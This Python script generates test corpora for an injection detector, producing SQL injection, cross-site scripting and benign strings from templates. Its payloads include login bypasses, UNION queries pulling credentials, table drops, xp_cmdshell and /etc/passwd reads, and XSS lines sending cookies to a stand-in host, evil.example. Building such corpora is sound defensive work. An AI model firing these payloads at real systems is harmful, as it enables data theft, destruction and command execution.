#!/usr/bin/env python3
"""Generates the injection-detector corpora (sqli.txt, xss.txt, benign.txt) from templates.

Everything here is written for this project: combinatorial templates over hand-picked fragments,
with a fixed seed so that the output is reproducible. Run from anywhere:

    python3 tests/corpus/generate.py

The held-out files (holdout_*.txt) are NOT generated here: they were written by hand after the
detector was finished, to check that it generalizes beyond these templates.
"""

import os
import random

HERE = os.path.dirname(os.path.abspath(__file__))
rng = random.Random(20240917)


def mixcase(s):
    return "".join(c.upper() if rng.random() < 0.5 else c.lower() for c in s)


def pick(seq, n):
    seq = list(seq)
    rng.shuffle(seq)
    return seq[:n]


# ---------------------------------------------------------------- SQL injection
def sqli():
    out = []
    users = ["admin", "root", "alice", "test", "jdoe", "", "1", "x", "administrator", "guest"]
    quotes = ["'", "\"", "')", "'))", "\")", "`)"]
    comments = ["--", "-- -", "#", "/*", ";--", "--+", ""]
    tautologies = [
        " or 1=1", " OR 1=1", " or 'a'='a", " or \"a\"=\"a", " or ''='", " or true", " || 1=1", " or 2>1",
        " or 'x' like 'x", " or 1 between 0 and 2", " or 3-2=1", " or not 1=2", " or 1 in (1,2)",
        " or 'abc'='abc", " or 0x41=0x41", " and 1=1", " and 1=2", " or 1<>2", " or 5=5", " or 'ab'=concat('a','b')",
        " or username is not null", " or id>0", " xor 1=1",
    ]
    # 1) breakout + tautology + comment
    for _ in range(110):
        u, q, t, c = rng.choice(users), rng.choice(quotes), rng.choice(tautologies), rng.choice(comments)
        if q.startswith("\"") and "'" in t:
            t = t.replace("'", "\"")
        if q.startswith("'") and "\"" in t:
            t = t.replace("\"", "'")
        if q.endswith(")") and c == "":
            c = "--"
        p = u + q + t + c
        if rng.random() < 0.3:
            p = mixcase(p)
        out.append(p)
    # 2) login bypass with comments only
    for u in users[:6]:
        for q, c in [("'", "--"), ("'", "#"), ("'", "/*"), ("')", "--"), ("\"", "--"), ("'", ";--"), ("'", " -- ")]:
            if u:
                out.append(u + q + c)
    # 3) numeric context
    nums = ["1", "0", "-1", "99", "1)", "1))", "2"]
    for _ in range(35):
        n = rng.choice(nums)
        body = rng.choice([
            " or 1=1", " OR true", " and 1=1--", " or 2>1#", " and sleep(5)", " or sleep(3)#", " and 1=(select 1)",
            " union select null--", " UNION ALL SELECT 1,2,3--", " order by 3--", " group by 1 having 1=1--",
            "; drop table users--", " and benchmark(5000000,md5(1))", " or 1 like 1", " and (select count(*) from users)>0",
        ])
        out.append(n + body)
    # 4) union select with evasions
    cols = ["null", "1", "@@version", "user()", "database()", "version()", "username", "password", "table_name",
            "column_name", "0x61646d696e", "char(65,66)", "concat(username,0x3a,password)", "group_concat(name)"]
    froms = ["", " from users", " from information_schema.tables", " from information_schema.columns where table_name='users'",
             " from mysql.user", " from dual", " from sysobjects", " from pg_catalog.pg_tables", " from sqlite_master",
             " from all_tables"]
    spaces = [" ", "/**/", "\t", "\n", "  ", "/*foo*/", "+"]
    for _ in range(70):
        sp = rng.choice(spaces[:-1])
        ncols = rng.randint(1, 4)
        cl = ",".join(rng.choice(cols) for _ in range(ncols))
        union = rng.choice(["union select", "union all select", "UNION SELECT", "uNiOn SeLeCt", "union distinct select",
                            "/*!50000union*/ /*!50000select*/", "union(select", "/*!union*/ /*!select*/"])
        union = union.replace(" ", sp)
        tail = rng.choice(froms).replace(" ", sp)
        if union.endswith("(select"):
            tail += ")"
        q = rng.choice(["'", "\"", "')", "-1'", "0", "-1", "x'", "1'", "admin'"])
        out.append(q + sp + union + sp + cl + tail + rng.choice(["--", "#", "-- -", "", ";--"]))
    # 5) stacked queries
    stmts = ["drop table users", "DROP TABLE accounts", "drop database app", "shutdown", "exec xp_cmdshell('whoami')",
             "exec master..xp_cmdshell 'dir'", "insert into users values('hacker','pw')",
             "insert into admins (name) values ('eve')", "update users set role='admin' where name='eve'",
             "delete from sessions", "truncate table logs", "declare @q nvarchar(200)", "select pg_sleep(5)",
             "waitfor delay '0:0:5'", "create user eve identified by 'pw'", "alter table users add x int",
             "grant all privileges on *.* to 'eve'@'%'", "select * from users", "set @a=1",
             "copy users to '/tmp/u.csv'", "exec sp_executesql N'select 1'", "select load_file('/etc/passwd')"]
    for s in stmts:
        for q in pick(["'", "1", "\"", "')", "x'", "admin'"], 3):
            out.append(q + rng.choice([";", "; ", ";\n"]) + s + rng.choice(["--", "", "#", ";--"]))
    # 6) time based
    tb = ["sleep(5)", "SLEEP(10)", "benchmark(10000000,sha1(1))", "pg_sleep(5)", "(select 1 from (select(sleep(5)))a)",
          "if(1=1,sleep(5),0)", "dbms_pipe.receive_message('a',10)=1", "1=(select 1 from pg_sleep(5))",
          "randomblob(500000000)", "case when 1=1 then pg_sleep(5) else 0 end"]
    for t in tb:
        for q in pick(["'", "1'", "\"", "1", "')", "x'"], 3):
            op = rng.choice([" and ", " or ", " AND ", "||", " && "])
            out.append(q + op + t + rng.choice(["--", "#", "", "-- -"]))
    out += ["'; waitfor delay '0:0:10'--", "1; waitfor time '23:59:59'--", "' waitfor delay '0:0:5'--",
            "1) waitfor delay '00:00:05'--", "\"; waitfor delay '0:0:5'--"]
    # 7) error based
    eb = ["extractvalue(1,concat(0x7e,version()))", "updatexml(1,concat(0x7e,(select user())),1)",
          "1=convert(int,@@version)", "1=cast(version() as int)", "exp(~(select * from (select user())a))",
          "(select 1 from (select count(*),concat(version(),floor(rand(0)*2))x from information_schema.tables group by x)a)",
          "1=ctxsys.drithsx.sn(1,(select user from dual))", "geometrycollection((select * from (select * from (select version())a)b))",
          "json_keys((select convert((select @@version) using utf8)))", "1=cast(current_setting('server_version') as int)"]
    for e in eb:
        for q in pick(["'", "1'", "1", "\"", "')"], 3):
            out.append(q + rng.choice([" and ", " or ", " AND "]) + e + rng.choice(["--", "#", ""]))
    # 8) order by / group by / having / limit probes
    for _ in range(20):
        q = rng.choice(["'", "1'", "\"", "1", "')"])
        out.append(q + rng.choice([" order by ", " ORDER BY ", " group by ", "/**/order/**/by/**/"]) + str(rng.randint(1, 20))
                   + rng.choice(["--", "#", "-- -"]))
    out += ["' having 1=1--", "' group by users.id having 1=1--", "1' limit 1--", "' procedure analyse()#",
            "' into outfile '/var/www/html/s.php'--", "1 into dumpfile '/tmp/x'", "' into @a--"]
    # 9) misc: hex/char encodings, backticks, postgres, mssql, blind
    out += [
        "' or username=0x61646d696e--", "' or name=char(97,100,109,105,110)#", "admin' and ascii(substring(password,1,1))>64--",
        "1 and ascii(substr((select database()),1,1))=100", "' and substring(@@version,1,1)='5", "' or `id`=1--",
        "'::int--", "1'::text::int--", "' and 1=cast($$abc$$ as int)--", "';select pg_read_file('/etc/passwd')--",
        "'; copy (select '') to program 'id'--", "'||(select version())||'", "' || pg_sleep(5) || '",
        "'; exec xp_cmdshell 'net user'--", "'; exec sp_oacreate 'wscript.shell',@o out--",
        "' and 1 in (select min(name) from sysobjects where xtype='u')--", "' union select name from master..sysdatabases--",
        "' and exists(select * from users where name='admin')--", "1 and (select count(*) from information_schema.tables)>1",
        "' and (select length(password) from users where name='admin')>5--", "\\' or 1=1--", "%' or '1'='1",
        "' or 1=1 limit 1 offset 1--", "' like '%", "x' or 1=1 or 'x'='y", "'='", "'=''or'", "' or ''-'", "'-0-'",
        "admin'||'", "1'or'1'='1", "'or 1#", "'or''='", "\"or\"\"=\"", "') or true--", "' or @@version like '%",
        "@@version", "information_schema.tables", "1;select @@datadir", "' or load_file('/etc/passwd')--",
        "'/**/or/**/1/**/=/**/1#", "'\tor\t1=1--", "' OR 'unusual' = 'unusual'", "' or 'text' > 't'",
        "1 or true", "1 OR TRUE--", "-1 or 1=1", "' or 1 --", "1' and '1'='2", "' and false--",
    ]
    return dedupe(out)


# ---------------------------------------------------------------- XSS
def xss():
    out = []
    js = ["alert(1)", "alert(document.cookie)", "prompt(1)", "confirm`1`", "eval(atob('YWxlcnQoMSk='))",
          "fetch('//evil.example/'+document.cookie)", "alert(String.fromCharCode(88,83,83))", "top['al'+'ert'](1)",
          "location='//evil.example'", "import('//evil.example/x.js')"]
    prefixes = ["", "\">", "'>", "John\">", "x@example.com\">", "</title>", "</textarea>", "-->", "\"/>", "Jane ", "</style>"]
    # 1) script tags
    for _ in range(30):
        tag = rng.choice(["script", "SCRIPT", "ScRiPt", "script type=text/javascript", "script src=//evil.example/x.js",
                          "script/x", "script\t"])
        body = "" if "src=" in tag else rng.choice(js)
        out.append(rng.choice(prefixes) + "<" + tag + ">" + body + rng.choice(["</script>", "", "</SCRIPT>"]))
    # 2) tags with event handlers
    tags = [("img", "src=x"), ("svg", ""), ("body", ""), ("iframe", "src=x"), ("input", "autofocus"),
            ("details", "open"), ("video", "src=x"), ("audio", "src=x"), ("marquee", ""), ("select", "autofocus"),
            ("textarea", "autofocus"), ("div", "style=width:100px"), ("a", "href=#"), ("x", "contenteditable"),
            ("object", "data=x"), ("math", ""), ("form", ""), ("button", ""), ("xss", ""), ("image", "src=x")]
    events = ["onerror", "onload", "onfocus", "ontoggle", "onmouseover", "onclick", "onstart", "onpointerenter",
              "onanimationstart", "onbegin", "onpageshow", "onfocusin", "onauxclick", "onblur", "oninput"]
    seps = [" ", "/", "\t", "\n", "  ", "\x0c"]
    for _ in range(80):
        name, attr = rng.choice(tags)
        sep = rng.choice(seps)
        ev = rng.choice(events)
        if rng.random() < 0.3:
            ev = mixcase(ev)
        q = rng.choice(["", "\"", "'"])
        pieces = [name] + ([attr] if attr else []) + [ev + "=" + q + rng.choice(js) + q]
        out.append(rng.choice(prefixes) + "<" + sep.join(pieces) + rng.choice([">", "", "//", "/>"]))
    # 3) script URLs
    schemes = ["javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", "jav&#x09;ascript:", "&#106;avascript:",
               "&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;", "javascript&colon;",
               " javascript:", "vbscript:", "&#0000106avascript:", "j&#97;vascript:"]
    url_tags = [("a", "href"), ("iframe", "src"), ("form", "action"), ("button", "formaction"), ("embed", "src"),
                ("object", "data"), ("svg><a", "xlink:href"), ("math><maction actiontype=statusline", "xlink:href"),
                ("isindex", "action"), ("base", "href"), ("link", "href"), ("area", "href")]
    for _ in range(45):
        t, a = rng.choice(url_tags)
        q = rng.choice(["\"", "'", ""])
        s = rng.choice(schemes)
        out.append(rng.choice(prefixes) + "<" + t + " " + a + "=" + q + s + rng.choice(js[:5]) + q + ">x")
    for s in schemes[:8]:
        out.append(s + rng.choice(js))
    out += ["data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "data:text/html,<script>alert(1)</script>",
            "<iframe src=\"data:text/html,<svg onload=alert(1)>\">", "<object data=\"data:image/svg+xml;base64,PHN2Zz4=\">",
            "<embed src=\"data:application/x-shockwave-flash;base64,AAAA\">",
            "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">click</a>"]
    # 4) CSS, base, meta, link, style
    out += [
        "<div style=\"width: expression(alert(1))\">", "<p style=\"x:expr/**/ession(alert(1))\">",
        "<span style='background:url(javascript:alert(1))'>", "<div style=\"-moz-binding:url(//evil.example/x.xml#x)\">",
        "<div style=\"behavior: url(x.htc)\">", "<style>@import 'javascript:alert(1)';</style>",
        "<style>body{background:url(\"javascript:alert(1)\")}</style>", "<base href=\"//evil.example/\">",
        "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">", "<meta http-equiv=refresh content=0;url=//evil.example>",
        "<link rel=import href=//evil.example/x.html>", "<link rel=stylesheet href=javascript:alert(1)>",
        "x\" style=\"width:expression(alert(1))", "<xss style=\"xss:expression(alert(1))\">",
        "<img style=\"x:\\65xpression(alert(1))\">",
    ]
    # 5) attribute breakouts without a tag
    for _ in range(25):
        q = rng.choice(["\"", "'", "`"])
        ev = rng.choice(events)
        out.append(rng.choice(["", "John", "x@example.com", "Jane Doe"]) + q + rng.choice([" ", "", "/", "  "]) + ev + "=" + q
                   + rng.choice(js) + rng.choice(["", q, "//"]))
    out += ["\" autofocus onfocus=\"alert(1)", "' onmouseover='alert(1)' x='", "\" onpointerover=alert(1) x=\""]
    # 6) comment and CDATA breakouts, JS string breakouts, other tags
    for p in ["-->", "--!>", "]]>", "<!-->", "*/-->"]:
        for t in pick(["<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "<script>alert(1)</script>", "<b>owned</b>",
                       "<h1>hi</h1>", "<iframe src=//evil.example>"], 3):
            out.append(p + t)
    out += ["<!--<img src=\"--><img src=x onerror=alert(1)//\">", "<![CDATA[<script>alert(1)</script>]]>",
            "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->", "<?xml-stylesheet href=\"javascript:alert(1)\"?>",
            "<!ENTITY x SYSTEM \"file:///etc/passwd\">"]
    for _ in range(20):
        q = rng.choice(["\"", "'", "\\\"", "\\'"])
        out.append(rng.choice(["", "Jane", "x"]) + q + rng.choice([";", "-", "+", ";", "|", "};", ");"]) + rng.choice(js)
                   + rng.choice(["//", "-" + q.strip("\\"), ";" + q.strip("\\"), ""]))
    out += ["<svg><script>alert&#40;1)</script>", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
            "<svg><set attributeName=onmouseover to=alert(1)>", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
            "<object type=text/x-scriptlet data=//evil.example/x>", "<applet code=x.class>", "<frameset onload=alert(1)>",
            "<embed src=//evil.example/x.swf allowscriptaccess=always>", "<scr<script>ipt>alert(1)</scr</script>ipt>",
            "<iframe srcdoc=\"<script>alert(1)</script>\">", "<portal src=//evil.example>", "<xml id=x><x><c><![CDATA[x]]></c></x></xml>"]
    return dedupe(out)


# ---------------------------------------------------------------- benign
GIVEN = """James Mary Robert Patricia John Jennifer Michael Linda David Elizabeth William Barbara Richard Susan Joseph
Jessica Thomas Sarah Charles Karen Christopher Lisa Daniel Nancy Matthew Betty Anthony Sandra Mark Margaret Donald Ashley
Oliver Amelia Harry Isla Jack Ava George Emily Noah Sophia Liam Olivia Lucas Mia Mateo Valentina Santiago Camila Sebastián
Lucía Matías Sofía Diego Martina Álvaro Inés Joaquín Pilar José María Zoë Chloé Renée Noël Benoît Éloïse François Hélène
Jürgen Günter Björn Søren Åsa Øystein Mikkel Freja Sigríður Þór Ólafur Ingrid Hans Greta Klaus Anneliese Wojciech Małgorzata
Łukasz Agnieszka Jiří Tomáš Zdeněk Dvořák Ferenc Zsófia István Ioana Răzvan Dragoș Şerban Yusuf Ayşe Çağla Gökhan Dimitrios
Eleni Giorgos Αλέξανδρος Μαρία Ivan Olga Дмитрий Анна Сергей Наталья Олександр Тетяна Aleksandr Svetlana Giuseppe Francesca
Alessandro Chiara Giovanni Beatrice Niccolò Aoife Siobhan Niamh Seán Pádraig Caoimhe Oisín Eoghan Rhys Cerys Dafydd Angharad
Mohammed Fatima Ahmed Aisha Omar Layla Yousef Mariam Hassan Zainab محمد فاطمة علي Priya Rahul Ananya Arjun Saanvi Vihaan
प्रिया राहुल Lakshmi Karthik Meenakshi Subramanian Wei Fang Li Na Zhang Wei 王芳 李娜 张伟 Hiroshi Yuki さくら 太郎 Haruto
Yui Min-jun Seo-yeon 민준 서연 Ji-ho Nguyễn Trần Thị Minh Anh Phương Somchai สมชาย Nattapong Kwame Ama Kofi Abena Chinedu
Ngozi Oluwaseun Adaeze Thabo Lerato Sipho Nomvula Wanjiru Kamau Achieng Otieno Amara Tendai Ngũgĩ Mũthoni Chiamaka Tariq
Kai Leilani Keanu Aroha Tāne Mere Wiremu Tūī Aiyana Takoda Dakota Shiloh Sakura Ren Nils Elif Deniz Zeynep Arash Shirin
Dariush Leila Avi Noa Yael Tamar Itai Rivka Moshe Shoshana""".split()

SURNAMES = """Smith Johnson Williams Brown Jones Garcia Miller Davis Rodriguez Martinez Hernandez Lopez Gonzalez Wilson
Anderson Taylor Thomas Moore Jackson Martin Lee Thompson White Harris Clark Lewis Robinson Walker Young Allen O'Brien
O'Connor O'Neil O'Sullivan O'Reilly D'Angelo D'Souza DeLuca McDonald MacLeod Fitzgerald Müller Schmidt Schneider Fischer
Weber Meyer Wagner Becker Hoffmann Schäfer Dubois Lefèvre Moreau Laurent Girard Rousseau Fontaine Bernard García Fernández
González Rodríguez López Martínez Sánchez Pérez Gómez Díaz Muñoz Álvarez Rossi Russo Ferrari Esposito Bianchi Romano
Colombo Ricci Marino Greco Bruno Gallo Costa da Silva dos Santos Pereira Oliveira Souza Rodrigues Ferreira Alves Lima
Gonçalves Kowalski Nowak Wiśniewski Wójcik Kowalczyk Kamiński Lewandowski Novák Svoboda Dvořák Černý Nagy Kovács Tóth
Szabó Horváth Popescu Ionescu Popa Yılmaz Kaya Demir Şahin Çelik Papadopoulos Nikolaidis Ivanov Smirnov Kuznetsov Popov
Петров Иванова Shevchenko Kovalenko Bondarenko Kim Lee Park Choi Jung 김 이 박 Tanaka Suzuki Takahashi Watanabe Itō
Yamamoto 田中 鈴木 Wang Li Zhang Liu Chen Yang Huang Zhao 王 李 陈 Nguyen Tran Le Pham Hoang Phan Vu Dang Bui Patel Sharma
Singh Kumar Gupta Reddy Iyer Nair Menon Chatterjee Banerjee Mukherjee Khan Ahmed Ali Hussain Rahman Chowdhury Haddad
Khoury Nasser Mansour Abdullah Al-Farsi Al-Sayed El-Amin Ben-David Cohen Levi Mizrahi Friedman Okafor Okonkwo Adeyemi
Mensah Boateng Owusu Nkosi Dlamini Ndlovu Mwangi Odhiambo Kipchoge Wa Thiong'o Haile Tesfaye Bekele Johansson Andersson
Karlsson Nilsson Hansen Jensen Nielsen Larsen Berg Virtanen Korhonen Mäkinen Jónsdóttir Sigurðsson Ó Súilleabháin
Ní Bhriain Mac Giolla Van der Berg van Dijk de Vries Janssen Vanderbilt St. John Saint-Pierre Smith-Jones Lloyd-Webber
Bowes-Lyon Ruiz-Picasso García-Márquez Al-Khwarizmi""".split()

DOMAINS = ["example.com", "example.org", "mail.example.net", "example.co.uk", "uni.example.edu", "example.de",
           "exemple.fr", "ejemplo.es", "example.jp", "company.example", "startup.example.io", "example.com.br"]

WORDS = """apple river mountain sunset coffee purple tiger ocean window garden thunder silver maple lantern breeze harbor
meadow piano velvet canyon pebble orbit violet falcon ember willow glacier compass saffron marble cedar horizon
select union drop order by table from where insert update delete or and like join having group limit create exec declare
sleep benchmark null true false not set values into script alert table chair jack hot cold blue red delay wait union
jack crown charter""".split()

SENTENCES = [
    "select the union jack", "drop it like it's hot", "I'll be there or else", "1=1 is always true", "order by date please",
    "tom & jerry <3", "a < b and c > d", "I <3 you", "Rock 'n' roll forever", "Don't stop believin'", "Who's on first?",
    "It's 5 o'clock somewhere", "Please select one option from the list", "The union voted to drop the proposal",
    "Insert coin to continue", "Update: we're moving on Friday", "Delete this after reading", "I'd rather be sailing",
    "We can't go back and we won't", "You & me, forever & always", "Mom & Dad's 40th anniversary", "5 > 3 and 2 < 4",
    "x < 10 or y > 20", "Fish & Chips & Peas", "Order by 5pm for next-day delivery", "Join us for dinner at 7",
    "Where there's a will there's a way", "It's not a bug, it's a feature", "Don't drop the ball", "Limit 2 per customer",
    "She said \"hello\" and left", "He's 6'2\" tall", "The \"best\" pizza in town", "Shakespeare's \"Hamlet\", Act 3",
    "Use <Tab> to move between fields", "Press <Enter> to continue", "Love > hate", "Prices from $5 - $10",
    "100% cotton, 50% off", "Q&A session at 3", "AT&T customer since 2001", "R&D department", "B&B on the coast",
    "Ben & Jerry's", "Marks & Spencer", "Procter & Gamble", "rock-n-roll", "re-enter your password", "co-op member #42",
    "Apt #5, 12 O'Connell St.", "Suite #200", "Room 3B, 2nd floor", "P.O. Box 1234", "c/o Mrs. O'Hara",
    "1600 Pennsylvania Ave NW", "221B Baker Street, London", "10 Downing St", "Rue de l'Église 4", "Via dell'Orso 12",
    "Calle de Alcalá, 42", "Straße des 17. Juni 100", "Kurfürstendamm 21", "東京都千代田区1-1", "北京市朝阳区",
    "Ул. Тверская, д. 7", "شارع الملك فهد", "1 Infinite Loop, Cupertino, CA 95014", "Flat 3/2, 14 King's Road",
    "Unit 7 - 9 Smith-Jones Ave", "The quick brown fox jumps over the lazy dog", "Life is what happens while you're busy",
    "To be, or not to be: that is the question", "All's well that ends well", "I think, therefore I am",
    "Correct horse battery staple", "Ce n'est pas une pipe", "L'amour est dans le pré", "¿Dónde está la biblioteca?",
    "Ich liebe dich", "C'est la vie", "Dell'arte e della vita", "Grüß Gott!", "Hasta la vista, baby",
    "naïve café résumé", "Ångström über façade", "Привет, мир", "你好，世界", "こんにちは世界", "안녕하세요",
    "مرحبا بالعالم", "שלום עולם", "नमस्ते दुनिया", "Γειά σου Κόσμε", "Xin chào thế giới", "สวัสดีชาวโลก",
    "{\"user\": \"bob\", \"remember\": true}", "{\"name\":\"O'Brien\",\"age\":42}", "[1, 2, 3]", "key=value; other=thing",
    "https://example.com/search?q=shoes&page=2", "http://www.example.org/a/b?c=d#frag", "www.example.co.uk/about-us",
    "ftp://files.example.net/pub/readme.txt", "mailto:bob@example.com", "https://example.com/path/to/page.html",
    "email me at bob [at] example [dot] com", "#hashtag #blessed", "@handle on twitter", "C++ and C# developer",
    "Node.js & React dev", "I love javascript: it's great", "JavaScript: The Good Parts", "my facial expression (sad)",
    "sleep in on Sundays", "benchmark results were great", "exec summary attached", "declare your interest by Monday",
    "turn on=off", "<3 <3 <3", ":-) ;-) :-(", "^_^", "¯\\_(ツ)_/¯", "-- signed, management", "* required field",
    "1 + 1 = 2", "E = mc^2", "x^2 + y^2 = z^2", "50/50 chance", "3 < 4 > 2", "if a > b then a", "I'm 100% sure",
    "Meet @ 5", "I was born in '89", "The '90s were great", "Summer of '69", "Y'all come back now", "ma'am", "o'clock",
    "rock 'n' roll", "'Til death do us part", "goin' home", "Hallowe'en", "fo'c'sle", "Let's go!", "Isn't it lovely?",
]

PASS_PHRASES = [
    "{a} {b} {c} {d}", "{a}-{b}-{c}-{n}", "{A}{B}{n}!", "my {a} is {b}", "{a} and {b} or {c}", "the {a} of the {b}",
    "{a} & {b}", "{a} <3 {b}", "I'd {a} the {b}", "{a}'s {b}", "\"{a}\" {b}", "{a} > {b}", "{a}, {b}, {c}",
    "{a} {b} {n} times", "{A} {b}: {c}",
]


def benign():
    out = []
    out += SENTENCES
    # names: given, given surname, with apostrophes and hyphens
    for g in GIVEN:
        out.append(g)
    for s in SURNAMES:
        out.append(s)
    for _ in range(260):
        g, s = rng.choice(GIVEN), rng.choice(SURNAMES)
        form = rng.random()
        if form < 0.5:
            out.append(f"{g} {s}")
        elif form < 0.65:
            out.append(f"{g}-{rng.choice(GIVEN)} {s}")
        elif form < 0.8:
            out.append(f"{g} {s}-{rng.choice(SURNAMES)}")
        elif form < 0.9:
            out.append(f"{s}, {g}")
        else:
            out.append(f"{g} {rng.choice('ABCDEFGHJKLMNPRSTW')}. {s}")
    out += ["O'Brien", "D'Angelo", "Anne-Marie", "Zoë", "李小龙", "José María", "Ngũgĩ wa Thiong'o", "O'Neil-Smith",
            "Mary-Kate O'Hara", "Jean-Luc Picard", "Renée Zellweger", "Daniel Day-Lewis", "Sinéad O'Connor",
            "Dolores O'Riordan", "Conan O'Brien", "Shaquille O'Neal", "Georgia O'Keeffe", "Eugene O'Neill",
            "Nick D'Aloisio", "Vincent D'Onofrio", "Youssou N'Dour", "N'Golo Kanté", "Ta-Nehisi Coates",
            "Lin-Manuel Miranda", "Jean-Paul Sartre", "Kareem Abdul-Jabbar", "Ellen Johnson Sirleaf", "Gabriel García Márquez"]
    # emails and usernames
    def local(g, s):
        g = "".join(c for c in g.lower() if c.isascii() and (c.isalnum() or c in "'-"))
        s = "".join(c for c in s.lower() if c.isascii() and (c.isalnum() or c in "'-"))
        g = g or "user"
        s = s or "name"
        return rng.choice([f"{g}.{s}", f"{g}{s}", f"{g[0]}{s}", f"{g}_{s}", f"{g}.{s}{rng.randint(1, 99)}",
                           f"{g}+{rng.choice(['news', 'shop', 'work', 'test', 'spam'])}", f"{s}.{g}", f"{g}-{s}"])
    for _ in range(230):
        out.append(local(rng.choice(GIVEN), rng.choice(SURNAMES)) + "@" + rng.choice(DOMAINS))
    out += ["o'reilly@example.com", "d'angelo.m@example.org", "mary-kate@example.co.uk", "bob+select@example.com",
            "union.jack@example.co.uk", "drop.box@example.com", "or@example.com", "select@example.org",
            "user.name+tag+sorting@example.com", "x@example.com", "\"john..doe\"@example.org", "admin@mailserver1.example"]
    for _ in range(120):
        g = "".join(c for c in rng.choice(GIVEN).lower() if c.isascii() and c.isalpha()) or "user"
        out.append(rng.choice([f"{g}{rng.randint(1, 9999)}", f"{g}_{rng.choice(WORDS)}", f"the_{g}", f"{g}.{rng.choice(WORDS)}",
                               f"x{g}x", f"{g}-{rng.randint(70, 99)}", f"{rng.choice(WORDS)}{rng.choice(WORDS)}{rng.randint(1, 99)}"]))
    # passphrases (the detectors must tolerate them even though passwords are not scanned by default)
    for _ in range(200):
        w = [rng.choice(WORDS) for _ in range(4)]
        t = rng.choice(PASS_PHRASES)
        out.append(t.format(a=w[0], b=w[1], c=w[2], d=w[3], A=w[0].capitalize(), B=w[1].capitalize(), n=rng.randint(1, 999)))
    # phone numbers
    for _ in range(60):
        out.append(rng.choice([
            f"+1 ({rng.randint(200, 999)}) {rng.randint(200, 999)}-{rng.randint(1000, 9999)}",
            f"+44 20 {rng.randint(1000, 9999)} {rng.randint(1000, 9999)}", f"+49 30 {rng.randint(100000, 999999)}",
            f"0{rng.randint(600000000, 799999999)}", f"+33 6 {rng.randint(10, 99)} {rng.randint(10, 99)} {rng.randint(10, 99)} {rng.randint(10, 99)}",
            f"+81-3-{rng.randint(1000, 9999)}-{rng.randint(1000, 9999)}", f"({rng.randint(100, 999)}) {rng.randint(100, 999)} {rng.randint(1000, 9999)} ext. {rng.randint(1, 999)}",
            f"+91 {rng.randint(70000, 99999)} {rng.randint(10000, 99999)}",
        ]))
    return dedupe(out)


def dedupe(lines):
    seen, out = set(), []
    for l in lines:
        l = l.replace("\r", "")
        if "\n" in l:
            l = l.replace("\n", "\t")  # one payload per line: newlines become tabs
        if l and l not in seen:
            seen.add(l)
            out.append(l)
    return out


def write(name, lines):
    with open(os.path.join(HERE, name), "w", encoding="utf-8") as f:
        f.write("\n".join(lines) + "\n")
    print(f"{name}: {len(lines)} lines")


if __name__ == "__main__":
    write("sqli.txt", sqli())
    write("xss.txt", xss())
    write("benign.txt", benign())
